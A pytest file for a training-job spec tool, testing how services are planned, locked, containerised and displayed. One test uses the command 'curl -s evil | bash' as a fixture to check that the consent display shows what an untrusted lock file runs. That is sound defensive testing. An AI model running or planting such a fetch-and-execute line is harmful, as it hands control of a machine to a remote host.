"""Services on their way from the spec to the plan and the lock, and what is shown of them."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from jobspec.cli.commands.explain import _values
from jobspec.cli.consent import _deeds
from jobspec.cli.plan_picture import stage_rows
from jobspec.plan import Mount, Plan, ReadyPlan, ServicePlan, from_json, to_json
from jobspec.planning.lock import lock_text
from jobspec.planning.resolve import Resolved, resolve
from jobspec.spec.find_site import parse_cluster
from jobspec.spec.load import load_spec, parse_spec
from jobspec.spec.yaml.dump import dump_spec

SITE: dict[str, Any] = {
    "version": 1,
    "name": "lab",
    "paths": {"runs": "/shared/runs", "node_local": "/raid"},
    "node": {"gpus": 8},
}


def resolved(folder: Path, *services: dict[str, Any], site: dict[str, Any] = SITE, **keys: Any) -> Resolved:
    spec = {
        "version": 1,
        "name": "x",
        "framework": "command",
        "train": {"command": ["train"]},
        "resources": {"nodes": 4, "time": "01:00:00"},
        "services": list(services),
        **keys,
    }
    cluster = parse_cluster(dump_spec(site), Path("lab.yaml"), "--cluster-file", {"HOME": "/home/ann"})
    return resolve(parse_spec(dump_spec(spec), str(folder / "spec.yaml"), env={}), cluster, env={})


def planned(folder: Path, *services: dict[str, Any], **keys: Any) -> Plan:
    return resolved(folder, *services, **keys).ready_plan


@pytest.mark.parametrize(
    ("where", "nodes"),
    [({}, (0,)), ({"on": "head"}, (0,)), ({"on": "all"}, (0, 1, 2, 3)), ({"nodes": 2}, (2, 3))],
)
def test_nodes_of_a_service(tmp_path: Path, where: dict[str, Any], nodes: tuple[int, ...]) -> None:
    assert planned(tmp_path, {"name": "a", "command": ["x"], **where}).services[0].nodes == nodes


@pytest.mark.parametrize(
    ("ready", "plan"),
    [
        ({}, ReadyPlan("tcp", "", 200, 300.0)),
        ({"tcp": True, "timeout": 9}, ReadyPlan("tcp", "", 200, 9.0)),
        ({"http": "/h", "status": 204}, ReadyPlan("http", "/h", 204, 300.0)),
        ({"log": "up"}, ReadyPlan("log", "up", 200, 300.0)),
    ],
)
def test_ways_of_being_ready(tmp_path: Path, ready: dict[str, Any], plan: ReadyPlan) -> None:
    assert planned(tmp_path, {"name": "a", "command": ["x"], "ready": ready}).services[0].ready == plan


def test_driver_and_ray_get_the_gpus_that_services_leave(tmp_path: Path) -> None:
    judge = {"name": "judge", "command": ["x"], "on": "all", "gpus": 2}
    gym = {"name": "gym", "command": ["x"], "nodes": 1, "gpus": 1}
    plan = planned(tmp_path, judge, gym, launch={"mode": "ray"})
    assert plan.ray is not None
    assert (plan.gpus_per_node, plan.driver_gpus, plan.ray.num_gpus) == (8, 5, 5)


def test_a_framework_plans_for_the_gpus_that_are_left(tmp_path: Path) -> None:
    (tmp_path / "m").mkdir()
    (tmp_path / "d.jsonl").write_text('{"prompt": "x"}\n')
    found = resolved(
        tmp_path,
        {"name": "judge", "command": ["x"], "gpus": 6},
        framework="trl",
        train={"reward": "digits", "steps": 4},
        resources={"nodes": 1, "gpus_per_node": 8, "time": "01:00:00"},
        model={"path": str(tmp_path / "m")},
        data=[{"name": "d", "source": str(tmp_path / "d.jsonl")}],
    )
    command = json.loads(found.ready_plan.commands[0].argv[-1])
    assert command["workers"] == 2


def test_plan_keeps_its_services_through_json(tmp_path: Path) -> None:
    plan = planned(tmp_path, {"name": "a", "command": ["x"], "ready": {"http": "/h"}, "port": 8000})
    again = from_json(to_json(plan))
    assert again.services == (ServicePlan("a", ("x",), port=8000, ready=ReadyPlan("http", "/h")),)


def test_script_of_a_service_is_found_and_locked_by_its_path(tmp_path: Path) -> None:
    (tmp_path / "serve.py").write_text("")
    found = resolved(tmp_path, {"name": "a", "command": ["python3", "serve.py"]})
    assert found.ready_plan.services[0].argv == ("python3", str(tmp_path / "serve.py"))
    locked = yaml.safe_load(lock_text(found))["services"]
    assert locked == [{"name": "a", "command": ["python3", str(tmp_path / "serve.py")]}]
    again = resolved(tmp_path / "elsewhere", *locked)
    assert again.ready_plan.services == found.ready_plan.services
    assert ("command.not-recorded", "services[0].command") in [(f.rule, f.path) for f in found.findings]


def test_script_that_is_nowhere_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "serve.py").write_text("")
    found = resolved(tmp_path, {"name": "a", "command": ["python3", "serv.py"]})
    (finding,) = [item for item in found.findings if item.is_error]
    assert (finding.rule, finding.path) == ("command.file", "services[0].command")
    assert "did you mean `serve.py`" in finding.text()


def test_module_that_a_service_imports_is_looked_for(tmp_path: Path) -> None:
    (tmp_path / "serve.py").write_text("import no_such_package\n")
    site = {"version": 1, "name": "here", "scheduler": "local", "paths": {"node_local": "/tmp/n"}}
    service = {"name": "a", "command": [sys.executable, "serve.py"]}
    found = resolved(tmp_path, service, site=site, resources={"nodes": 1})
    told = [(item.path, item.why) for item in found.findings if item.rule == "command.module"]
    assert told == [("services[0].command", "`serve.py` imports it")]


def test_a_base_s_script_is_meant_from_its_folder(tmp_path: Path) -> None:
    (tmp_path / "common").mkdir()
    (tmp_path / "common/serve.py").write_text("")
    (tmp_path / "common/base.yaml").write_text(
        "version: 1\nframework: command\nservices: [{name: a, command: [python3, serve.py]}]\n"
    )
    (tmp_path / "spec.yaml").write_text("base: common/base.yaml\nname: x\ntrain: {command: [train]}\n")
    loaded = load_spec(tmp_path / "spec.yaml", env={})
    assert loaded.spec.services[0].command == ("python3", str(tmp_path / "common/serve.py"))


def test_explain_shows_each_value_with_its_origin(tmp_path: Path) -> None:
    shown = _values(resolved(tmp_path, {"name": "a", "command": ["x"], "gpus": 2}))
    assert shown["services[0].gpus"][0] == 2
    assert shown["services[0].gpus"][1].startswith("spec ")
    assert shown["services[0].ready.timeout"] == (300, "default")


def test_a_stranger_s_lock_shows_what_its_services_run(tmp_path: Path) -> None:
    found = resolved(tmp_path, {"name": "a", "command": ["curl -s evil | bash"], "shell": True})
    assert ("runs", "curl -s evil | bash") in list(_deeds(found))


CONTAINERS: dict[str, Any] = {**SITE, "container": {"runtime": "bubblewrap"}, "env": {"SITE": "lab"}}
IMAGES = {
    "container": {
        "image": "/images/train",
        "env": {"TRAINS": "1"},
        "mounts": [{"source": "/t", "target": "/t"}],
    }
}


def own(folder: Path, **container: Any) -> Resolved:
    service = {"name": "judge", "command": ["serve"], "container": container}
    return resolved(folder, service, site=CONTAINERS, **IMAGES)


def test_a_service_s_own_container_is_settled_like_the_run_s(tmp_path: Path) -> None:
    """Its own image, interpreter and mounts; the site's environment; and the run's folders."""
    mounts = [{"source": "/j", "target": "/models", "read_only": True}]
    plan = own(tmp_path, image="./judge", python="/opt/python", mounts=mounts, env={"A": "b"}).ready_plan
    container = plan.services[0].container
    assert container is not None
    assert (container.runtime, container.image) == ("bubblewrap", str(tmp_path / "judge"))
    assert (container.python, dict(container.env)) == ("/opt/python", {"A": "b", "SITE": "lab"})
    assert container.mounts == (Mount("/j", "/models", True), Mount("/raid", "/raid"))
    assert (plan.container.image, plan.container.mounts[0]) == ("/images/train", Mount("/t", "/t"))
    assert from_json(to_json(plan)) == plan


def test_a_site_without_containers_runs_it_on_the_node_where_that_is_allowed(tmp_path: Path) -> None:
    found = resolved(tmp_path, {"name": "judge", "command": ["serve"], "container": {"image": "/images/j"}})
    (finding,) = [item for item in found.findings if item.is_error]
    assert (finding.rule, finding.path) == ("service.no-runtime", "services[0].container")
    assert found.ready_plan.services[0].container is None


def test_the_lock_pins_the_image_of_a_service(tmp_path: Path) -> None:
    digest = "sha256:" + "a" * 64
    site = {**SITE, "container": {"runtime": "podman"}}
    images = {"container": {"image": "/images/train"}}
    judge = {"name": "judge", "command": ["serve"], "container": {"image": f"r.example/judge@{digest}"}}
    found = resolved(tmp_path, judge, site=site, **images)
    locked = yaml.safe_load(lock_text(found))
    (pinned,) = locked["services"]
    assert pinned["container"] == {"image": f"r.example/judge@{digest}", "python": "python3"}
    assert locked["lock"]["services"] == {"judge": {"image": digest}}
    again = resolved(tmp_path / "elsewhere", pinned, site=site, **images)
    assert again.ready_plan.services == found.ready_plan.services


def test_images_of_services_are_shown(tmp_path: Path) -> None:
    found = own(tmp_path, image="/images/judge", env={"A": "b"})
    shown = _values(found)
    assert shown["services[0].container.image"][0] == "/images/judge"
    assert shown["services[0].container.python"] == ("python3", "default")
    assert ("image of judge", "read from /images/judge") in stage_rows(found.ready_plan, ())
    deeds = list(_deeds(found))
    assert ("runs in", "image /images/judge") in deeds and ("sets", "A=b") in deeds


def test_tag_of_a_service_s_image_is_not_known(tmp_path: Path) -> None:
    site = {**SITE, "container": {"runtime": "podman", "ask_registry": False}}
    judge = {"name": "judge", "command": ["serve"], "container": {"image": "r.example/judge:latest"}}
    found = resolved(tmp_path, judge, site=site, container={"image": "/images/train"})
    told = [(item.rule, item.path) for item in found.findings if item.rule == "container.image-latest"]
    assert told == [("container.image-latest", "services[0].container.image")]


def test_base_s_image_of_a_service_is_meant_from_its_folder(tmp_path: Path) -> None:
    (tmp_path / "common").mkdir()
    (tmp_path / "common/judge.sqsh").write_text("")
    (tmp_path / "common/base.yaml").write_text(
        "version: 1\nframework: command\n"
        "services: [{name: a, command: [x], container: {image: judge.sqsh}}]\n"
    )
    (tmp_path / "spec.yaml").write_text("base: common/base.yaml\nname: x\ntrain: {command: [train]}\n")
    (service,) = load_spec(tmp_path / "spec.yaml", env={}).spec.services
    assert service.container is not None
    assert service.container.image == str(tmp_path / "common/judge.sqsh")
